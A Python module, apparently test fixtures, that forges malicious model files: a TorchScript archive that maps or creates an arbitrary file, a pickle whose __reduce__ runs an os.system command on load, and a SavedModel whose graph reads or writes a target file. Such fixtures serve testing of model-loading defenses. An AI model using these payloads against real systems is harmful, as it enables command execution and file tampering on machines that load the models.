"""Programs in a model's clothes, forged byte by byte, so that no framework is needed to make them.

TorchScript is a zip of code and pickles; a SavedModel is a protocol buffer (tensorflow/core/protobuf: saved_model,
meta_graph; core/framework: graph, node_def, attr_value, tensor).
"""

from __future__ import annotations

import pickle
import struct
import zipfile
from pathlib import Path

_FLOAT, _INT32, _STRING = 1, 3, 7
_SIZES = (6, 4)


def torchscript(path: Path, *body: str) -> Path:
    """Write a TorchScript module whose `forward(points)` is the lines of `body`."""
    code = [
        "class Net(Module):",
        "  __parameters__ = []",
        "  __buffers__ = []",
        "  training : bool",
        "  def forward(self: __torch__.Net,",
        "    points: Tensor) -> Tensor:",
        *(f"    {line}" for line in body),
    ]
    state = b"\x80\x02c__torch__\nNet\n)\x81}X\x08\x00\x00\x00training\x88sb."
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("net/data.pkl", state)
        archive.writestr("net/code/__torch__.py", "\n".join(code) + "\n")
        archive.writestr("net/constants.pkl", b"\x80\x02).")
        archive.writestr("net/version", "3\n")
        archive.writestr("net/byteorder", "little")
    return path


def mapping_torchscript(path: Path, target: str, *, shared: bool) -> Path:
    """Write a TorchScript module that maps a file into memory; `shared` makes the file where it is not there."""
    return torchscript(
        path,
        f'read = torch.from_file("{target}", {shared}, 1, dtype=0)',
        "return torch.add(torch.slice(points, 1, 0, 4), torch.sum(read))",
    )


def calling_pickle(path: Path, command: str) -> Path:
    """Write a state dict that calls `os.system` where it is unpickled without care."""

    class Call:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return os.system, (command,)

    path.write_bytes(pickle.dumps({"weight": Call()}, protocol=2))
    return path


def saved_model(folder: Path, target: str, *, write: bool) -> Path:
    """Write a SavedModel that reads the file `target`, or writes it."""
    nodes = [
        _node("points", "Placeholder", dtype=_type(_FLOAT), shape=_shape_attribute(-1, _SIZES[0])),
        _node("weights", "Const", dtype=_type(_FLOAT), value=_tensor(_field(2, _shape(*_SIZES)) + _ones())),
        _node("product", "MatMul", "points", "weights", T=_type(_FLOAT)),
        _node("path", "Const", dtype=_type(_STRING), value=_tensor(_field(8, target.encode()), _STRING)),
    ]
    if write:
        nodes += [
            _node("text", "Const", dtype=_type(_STRING), value=_tensor(_field(8, b"planted"), _STRING)),
            _node("write", "WriteFile", "path", "text"),
            _node("scores", "Identity", "product", "^write", T=_type(_FLOAT)),
        ]
    else:
        nodes += [
            _node("read", "ReadFile", "path"),
            _node("length", "StringLength", "read"),
            _node("number", "Cast", "length", SrcT=_type(_INT32), DstT=_type(_FLOAT)),
            _node("scores", "AddV2", "product", "number", T=_type(_FLOAT)),
        ]
    graph = b"".join(_field(1, node) for node in nodes) + _field(4, _number(1, 27))
    signature = (
        _entry(1, "points", _tensor_info("points:0", -1, _SIZES[0]))
        + _entry(2, "scores", _tensor_info("scores:0", -1, _SIZES[1]))
        + _field(3, b"tensorflow/serving/predict")
    )
    meta = _field(1, _field(4, b"serve")) + _field(2, graph) + _entry(5, "serving_default", signature)
    folder.mkdir(parents=True)
    (folder / "saved_model.pb").write_bytes(_number(1, 1) + _field(2, meta))
    return folder


def _node(name: str, operator: str, *inputs: str, **attributes: bytes) -> bytes:
    return (
        _field(1, name.encode())
        + _field(2, operator.encode())
        + b"".join(_field(3, text.encode()) for text in inputs)
        + b"".join(_entry(5, key, value) for key, value in attributes.items())
    )


def _type(number: int) -> bytes:
    return _number(6, number)


def _shape(*sizes: int) -> bytes:
    return b"".join(_field(2, _number(1, size)) for size in sizes)


def _shape_attribute(*sizes: int) -> bytes:
    return _field(7, _shape(*sizes))


def _tensor(rest: bytes, kind: int = _FLOAT) -> bytes:
    shape = b"" if kind == _FLOAT else _field(2, b"")
    return _field(8, _number(1, kind) + shape + rest)


def _ones() -> bytes:
    count = _SIZES[0] * _SIZES[1]
    return _field(4, struct.pack(f"<{count}f", *[1.0] * count))


def _tensor_info(name: str, *sizes: int) -> bytes:
    return _field(1, name.encode()) + _number(2, _FLOAT) + _field(3, _shape(*sizes))


def _entry(number: int, key: str, value: bytes) -> bytes:
    return _field(number, _field(1, key.encode()) + _field(2, value))


def _field(number: int, content: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def _number(number: int, value: int) -> bytes:
    return _varint(number << 3) + _varint(value & (1 << 64) - 1)


def _varint(value: int) -> bytes:
    encoded = bytearray()
    while value > 0x7F:
        encoded.append(value & 0x7F | 0x80)
        value >>= 7
    encoded.append(value)
    return bytes(encoded)
